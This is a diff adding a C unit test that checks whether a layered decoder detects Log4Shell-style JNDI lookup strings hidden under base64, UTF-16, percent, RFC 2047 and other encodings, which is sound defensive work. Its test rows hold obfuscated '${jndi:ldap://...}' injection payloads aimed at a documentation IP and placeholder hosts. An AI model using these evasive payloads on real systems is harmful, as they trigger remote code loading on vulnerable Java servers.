@@ -211,6 +211,52 @@ static void the_outer_layer_is_undone_too(void)
     check_rows(rows, ARRAY_LEN(rows));
 }
 
+/* Layers that cut, shift or half show one another. */
+static void layers_in_each_others_way(void)
+{
+    static const struct {
+        struct span text;
+        const char *name;
+        const char *encodings;
+    } rows[] = {
+        /* '=cC' is no escape */
+        {SPAN_LITERAL("token=cCR7am5kaTpsZGFwOi8vMjAzLjAuMTEzLjkvYX0="), "ldap://203.0.113.9/a",
+         "base64"},
+        /* the groups begin late */
+        {SPAN_LITERAL("/a/"
+                      "JQAyADQAJQA3AEIAJQA2AEEAJQA2AEUAJQA2ADQAJQA2ADkAJQAzAEEAJQA2AEMAJQA2ADQAJQA2"
+                      "ADEAJQA3ADAAJQAzAEEAJQAyAEYAJQAyAEYAJQAzADIAJQAzADAAJQAzADMAJQAyAEUAJQAzADAA"
+                      "JQAyAEUAJQAzADEAJQAzADEAJQAzADMAJQAyAEUAJQAzADkAJQAyAEYAJQA2ADEAJQA3AEQA/x"),
+         "ldap://203.0.113.9/a", "base64 utf-16 percent"},
+        /* '/' or '+' is escaped */
+        {SPAN_LITERAL("q=JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hP2I%2BY30%3D"),
+         "ldap://203.0.113.9/a?b>c", "percent base64"},
+        /* folded in JSON */
+        {SPAN_LITERAL("{\"a\":\"JHtqbmRpOmxkYXA6Ly8yMDMuMC4x\\r\\nMTMuOS9hfQ==\"}"),
+         "ldap://203.0.113.9/a", "js-escape base64"},
+        /* blanks between words, escaped */
+        {SPAN_LITERAL("=?utf-8?B?JHtqbmRpOmxkYXA6Ly8yMA==?=\\r\\n =?utf-8?B?My4wLjExMy45L2F9?="),
+         "ldap://203.0.113.9/a", "rfc2047"},
+        {SPAN_LITERAL("=?utf-8?B?JHtqbmRpOmxkYXA6Ly8yMA==?=+=?utf-8?B?My4wLjExMy45L2F9?="),
+         "ldap://203.0.113.9/a", "rfc2047"},
+        /* a layer is left on */
+        {SPAN_LITERAL("%24{jndi:ldap://h&period;x/a}"), "ldap://h.x/a", "percent html"},
+        {SPAN_LITERAL("%24{jndi:ldap&colon;//h/a}"), "ldap://h/a", "percent html"},
+        {SPAN_LITERAL("%24{jndi:ldap://h.e=\r\nx/a}"), "ldap://h.ex/a", "quoted-printable percent"},
+        {SPAN_LITERAL("%24{jndi:+ldap://h/a}"), " ldap://h/a", "plus percent"},
+        {SPAN_LITERAL("%5Cu%7B24%7D{jndi:ldap://h/a}"), "ldap://h/a", "percent json-unicode"},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        peel(rows[i].text);
+        bool right = result.lookup.class == LOOKUP_ATTACK && name_is(rows[i].name) &&
+                     encodings_are(rows[i].encodings);
+        if (!right) {
+            printf("%.*s\n", (int)rows[i].text.len, (const char *)rows[i].text.data);
+        }
+        CU_ASSERT(right);
+    }
+}
+
 /* Bytes in front that turn around what would be high and low if all were UTF-16. */
 static void utf16_behind_other_bytes(void)
 {
@@ -471,6 +517,7 @@ static CU_TestInfo layer_tests[] = {
     {"base64, partly escaped", base64_partly_escaped},
     {"escapes of parts of escapes", escapes_of_parts_of_escapes},
     {"the outer layer is undone too", the_outer_layer_is_undone_too},
+    {"layers in each other's way", layers_in_each_others_way},
     {"UTF-16 behind other bytes", utf16_behind_other_bytes},
     {"base64 over other layers", base64_over_other_layers},
     CU_TEST_INFO_NULL,
